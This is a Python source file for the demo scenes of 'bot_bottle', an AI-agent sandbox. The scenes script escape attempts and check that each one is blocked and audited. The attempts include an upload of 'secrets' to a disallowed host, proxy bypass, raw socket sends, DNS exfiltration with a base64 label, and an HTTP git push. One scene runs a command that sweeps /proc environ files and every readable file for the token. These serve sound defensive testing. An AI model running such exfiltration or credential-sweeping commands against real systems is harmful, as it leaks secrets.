@@ -1,0 +1,304 @@
+"""The demo's scenes: what the agent tries, what must come of it, and how both are known.
+
+A scene is judged by what the scripted servers saw and by what the audit log says, not by what the agent
+was told.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import shlex
+import sys
+from collections.abc import Callable
+from dataclasses import dataclass
+from pathlib import Path
+from typing import TYPE_CHECKING, TypeAlias
+
+from bot_bottle.audit import verify
+from bot_bottle.demo.stage import (
+    ELSEWHERE_HOST,
+    FINAL_TEXT,
+    MODEL_HOST,
+    PLACEHOLDER,
+    SITE_HOST,
+    Outcome,
+    Stage,
+)
+
+if TYPE_CHECKING:
+    from bot_bottle.backend.base import ExecResult
+
+_SECONDS = 10.0
+
+# What the agent says where curl is missing: the standard library of the interpreter that every bottle has.
+_FETCH = """
+import os, sys, urllib.request, urllib.error
+url, direct, data = sys.argv[1], sys.argv[2] == "direct", sys.argv[3]
+handlers = [urllib.request.ProxyHandler({})] if direct else []
+headers = dict(header.split(": ", 1) for header in sys.argv[4:])
+request = urllib.request.Request(url, data=data.encode() or None, headers=headers)
+try:
+    print(urllib.request.build_opener(*handlers).open(request, timeout=8).read().decode())
+except urllib.error.HTTPError as error:
+    print(error.read().decode())
+"""
+
+# A connection and a datagram to a public resolver, with no name, no proxy and no library in between.
+_RAW = """
+import socket
+for label, kind, address in (
+    ("tcp 1.1.1.1:443", socket.SOCK_STREAM, ("1.1.1.1", 443)),
+    ("udp 8.8.8.8:53", socket.SOCK_DGRAM, ("8.8.8.8", 53)),
+    ("tcp host's loopback:PORT", socket.SOCK_STREAM, ("127.0.0.1", PORT)),
+):
+    with socket.socket(socket.AF_INET, kind) as sock:
+        sock.settimeout(5)
+        try:
+            sock.connect(address)
+            sock.send(b"out")
+            print(label + ": SENT")
+        except OSError as error:
+            print(label + ": " + str(error.strerror or error))
+print("a look-up says: " + socket.getaddrinfo("LABEL", 443, socket.AF_INET)[0][4][0])
+"""
+
+
+@dataclass(frozen=True, slots=True, kw_only=True)
+class Scene:
+    """One scene: its title and what happens."""
+
+    title: str
+    play: Play
+
+
+Play: TypeAlias = Callable[[Stage], Outcome]
+
+
+def model_answers(stage: Stage) -> Outcome:
+    """The credential is added outside: upstream sees the real one, the bottle only holds a placeholder."""
+    task = json.dumps(
+        {"model": "scripted", "max_tokens": 64, "messages": [{"role": "user", "content": "Hello"}]}
+    )
+    tried, result = _fetch(
+        stage,
+        f"https://{MODEL_HOST}/v1/messages",
+        data=task,
+        headers=("Authorization: Bearer $MODEL_TOKEN", "Content-Type: application/json"),
+    )
+    answered = FINAL_TEXT in _text(result)
+    sent = [seen.values("authorization") for seen in stage.model.seen]
+    raw = b"".join(seen.raw + seen.body for seen in stage.model.seen)
+    upstream_ok = sent == [[f"Bearer {stage.token}"]] and PLACEHOLDER.encode() not in raw
+    found = _places_of_token(stage)
+    return Outcome(
+        ok=answered and upstream_ok and not found,
+        told=(
+            ("tried", tried),
+            ("happened", f"the agent read: {FINAL_TEXT if answered else _text(result)!r}"),
+            ("upstream", "saw Authorization: Bearer " + _masked(sent, stage.token)),
+            ("bottle", f"has MODEL_TOKEN={PLACEHOLDER}; the token's bytes are "
+             + (f"in: {', '.join(found)}" if found else "in none of its files, environments or arguments,"
+                " nor in its state folder or audit log")),
+            *_decided(stage, MODEL_HOST),
+        ),
+    )  # fmt: skip
+
+
+def host_not_allowed(stage: Stage) -> Outcome:
+    """A host that no route names."""
+    tried, result = _fetch(stage, f"https://{ELSEWHERE_HOST}/upload?data=secrets")
+    return _refused(
+        stage, tried, result, host=ELSEWHERE_HOST, reason="host_not_allowed", server=stage.elsewhere
+    )
+
+
+def proxy_ignored(stage: Stage) -> Outcome:
+    """A client that does not know of the proxy: the same rules, the same words."""
+    before = len(stage.site.seen)
+    allowed_command, allowed = _fetch(stage, f"https://{SITE_HOST}/guide", direct=True)
+    refused_command, refused = _fetch(stage, f"https://{ELSEWHERE_HOST}/upload", direct=True)
+    arrived = [seen.target for seen in stage.site.seen[before:]]
+    outcome = _refused(
+        stage,
+        refused_command,
+        refused,
+        host=ELSEWHERE_HOST,
+        reason="host_not_allowed",
+        server=stage.elsewhere,
+    )
+    ok = outcome.ok and arrived == ["/guide"] and SITE_HOST in _text(allowed)
+    reached = "reached the site" if arrived == ["/guide"] else f"did not go as it should: {_text(allowed)!r}"
+    return Outcome(ok=ok, told=(("tried", allowed_command), ("happened", reached), *outcome.told))
+
+
+def raw_and_dns(stage: Stage) -> Outcome:
+    """There is no route: a raw connection and a datagram fail in the bottle's own kernel namespace."""
+    label = f"c2VjcmV0.{ELSEWHERE_HOST}"
+    code = _RAW.replace("PORT", str(stage.elsewhere.port)).replace("LABEL", label)
+    result = stage.bottle.exec(_python_command(), stdin=code.encode(), timeout=_SECONDS)
+    lines = _text(result).splitlines()
+    nothing_sent = len(lines) == 4 and "SENT" not in _text(result)
+    own_answer = bool(lines) and lines[-1].endswith(" 127.0.0.1")
+    on_record = any(line.get("event") == "dns" and line.get("name") == label for line in stage.audit())
+    return Outcome(
+        ok=nothing_sent and own_answer and on_record and not stage.elsewhere.accepted,
+        told=(
+            ("tried", f"connect to 1.1.1.1:443; send to 8.8.8.8:53; connect to the host; look up {label}"),
+            *(("happened", line) for line in lines or [_error_text(result)]),
+            ("so", "the name was answered by the sidecar with its own address and forwarded to nobody"),
+            ("upstream", f"connections seen outside: {len(stage.elsewhere.accepted)}"),
+            *_decided(stage, label),
+        ),
+    )
+
+
+def push_refused(stage: Stage) -> Outcome:
+    """A git push over HTTP, to a host that is otherwise allowed."""
+    tried, result = _fetch(stage, f"https://{SITE_HOST}/me/repo.git/info/refs?service=git-receive-pack")
+    return _refused(stage, tried, result, host=SITE_HOST, reason="git_push_denied", server=None)
+
+
+def record_is_whole(stage: Stage) -> Outcome:
+    """The audit chain proves itself, and a single changed byte disproves it."""
+    verdict = verify(stage.plan.audit_path)
+    forged = stage.plan.audit_path.with_suffix(".forged")
+    forged.write_bytes(stage.plan.audit_path.read_bytes().replace(b'"deny"', b'"allow"', 1))
+    forged_verdict = verify(forged)
+    forged.unlink()
+    state_gone = not stage.plan.state_dir.exists()
+    return Outcome(
+        ok=verdict.ok and verdict.ended and not forged_verdict.ok and state_gone,
+        told=(
+            ("tried", f"bot-bottle audit verify {stage.plan.identity}"),
+            ("happened", verdict.message),
+            ("tried", "the same on a copy with one deny turned into allow"),
+            ("happened", forged_verdict.message),
+            ("state", "removed" if state_gone else f"still there: {stage.plan.state_dir}"),
+        ),
+    )
+
+
+SCENES = (
+    Scene(title="The model answers, and the token was never in the bottle", play=model_answers),
+    Scene(title="A host that nobody allowed", play=host_not_allowed),
+    Scene(title="A client that ignores the proxy", play=proxy_ignored),
+    Scene(title="A raw connection and a DNS query go nowhere", play=raw_and_dns),
+    Scene(title="A git push over HTTP, even to an allowed host", play=push_refused),
+)
+
+#: Played after the bottle is gone.
+EPILOGUE = (Scene(title="The record is whole, and nothing of the bottle is left", play=record_is_whole),)
+
+
+def _refused(
+    stage: Stage, tried: str, result: ExecResult, *, host: str, reason: str, server: object
+) -> Outcome:
+    """Judge a refusal: the agent read why, nothing arrived, and the audit line says the same."""
+    try:
+        body = json.loads(_text(result))
+    except ValueError:
+        body = {}
+    last = _last_line(stage, host)
+    explained = body.get("error") == "bot_bottle_denied" and body.get("reason") == reason
+    recorded = last.get("decision") == "deny" and last.get("reason") == reason
+    silent = not stage.elsewhere.accepted if server is stage.elsewhere else _no_push_seen(stage)
+    words = f"403 {body.get('reason')}: {body.get('message')}" if body else f"no refusal: {_text(result)!r}"
+    return Outcome(
+        ok=explained and recorded and silent,
+        told=(
+            ("tried", tried),
+            ("happened", words),
+            ("next", str(body.get("next_step", ""))),
+            ("upstream", "saw nothing" if silent else "SAW THE REQUEST"),
+            *_decided(stage, host),
+        ),
+    )
+
+
+def _no_push_seen(stage: Stage) -> bool:
+    return not any("receive-pack" in seen.target for seen in stage.site.seen)
+
+
+def _decided(stage: Stage, host: str) -> tuple[tuple[str, str], ...]:
+    """Tell who decided and the audit line that says so."""
+    line = _last_line(stage, host)
+    keys = ("seq", "event", "decision", "reason", "rule", "method", "host", "path", "name", "via", "injected")
+    short = {key: line[key] for key in keys if line.get(key) is not None}
+    who = f"the sidecar: {line.get('decision')}, by {line.get('rule') or 'its own DNS server'}"
+    return ("decided", who), ("audit", json.dumps(short))
+
+
+def _last_line(stage: Stage, host: str) -> dict[str, object]:
+    lines = [line for line in stage.audit() if host in (line.get("host"), line.get("name"))]
+    return lines[-1] if lines else {}
+
+
+def _fetch(
+    stage: Stage, url: str, *, data: str = "", headers: tuple[str, ...] = (), direct: bool = False
+) -> tuple[str, ExecResult]:
+    """Let the agent fetch ``url``; gives the command it ran, as a reader would type it, and its result."""
+    quoted = [f'"{header}"' for header in headers]  # double quotes: the shell fills $MODEL_TOKEN in
+    curl = ["curl", "-sS", *(["--noproxy", "'*'"] if direct else []), *(f"-H {header}" for header in quoted)]
+    curl += [*(["-d", shlex.quote(data)] if data else []), shlex.quote(url)]
+    command = " ".join(curl)
+    if _has_curl(stage):
+        return command, stage.bottle.exec(command, timeout=_SECONDS)
+    arguments = [shlex.quote(url), "direct" if direct else "proxy", shlex.quote(data), *quoted]
+    script = f"{_python_command()} {' '.join(arguments)}"
+    return script, stage.bottle.exec(script, stdin=_FETCH.encode(), timeout=_SECONDS)
+
+
+def _has_curl(stage: Stage) -> bool:
+    return stage.bottle.exec("command -v curl", timeout=_SECONDS).returncode == 0
+
+
+def _python_command() -> str:
+    """Give the interpreter that runs inside every bottle: the product's own, without its environment."""
+    return f"{shlex.quote(os.path.realpath(sys.executable))} -I -S -"
+
+
+def _places_of_token(stage: Stage) -> list[str]:
+    """Search, from outside, everything the agent can read and everything that outlives it for the token."""
+    needle = stage.token.encode()
+    inside = stage.bottle.exec(
+        "env; cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null;"
+        " find / -xdev -path /proc -prune -o -path /usr -prune -o -type f -print 2>/dev/null |"
+        ' while read -r name; do cat "$name" 2>/dev/null; done;'
+        " find /home /tmp /run -type f -exec cat {} + 2>/dev/null",
+        timeout=_SECONDS,
+    )
+    places = ["the bottle"] if needle in inside.stdout + inside.stderr else []
+    if PLACEHOLDER.encode() not in inside.stdout:  # the search finds what is there, or it proves nothing
+        places.append("nowhere that could be searched")
+    outside = [path for path in stage.plan.state_dir.rglob("*") if path.is_file() and not path.is_symlink()]
+    places += [str(path) for path in [*outside, stage.plan.audit_path] if _holds(path, needle)]
+    places += [
+        f"/proc/{pid}/cmdline" for pid in _processes() if _holds(Path("/proc", pid, "cmdline"), needle)
+    ]
+    return places
+
+
+def _holds(path: Path, needle: bytes) -> bool:
+    try:
+        return needle in path.read_bytes()
+    except OSError:  # a process that has ended, or another account's
+        return False
+
+
+def _processes() -> list[str]:
+    return [path.name for path in Path("/proc").iterdir() if path.name.isdigit()]
+
+
+def _masked(sent: list[list[str]], token: str) -> str:
+    if sent == [[f"Bearer {token}"]]:
+        return f"{token[:15]}…{token[-4:]} (the real one)"
+    return f"something else, {len(sent)} times"
+
+
+def _text(result: ExecResult) -> str:
+    return result.stdout.decode(errors="replace").strip()
+
+
+def _error_text(result: ExecResult) -> str:
+    return f"exit {result.returncode}: {result.stderr.decode(errors='replace').strip()[-300:]}"
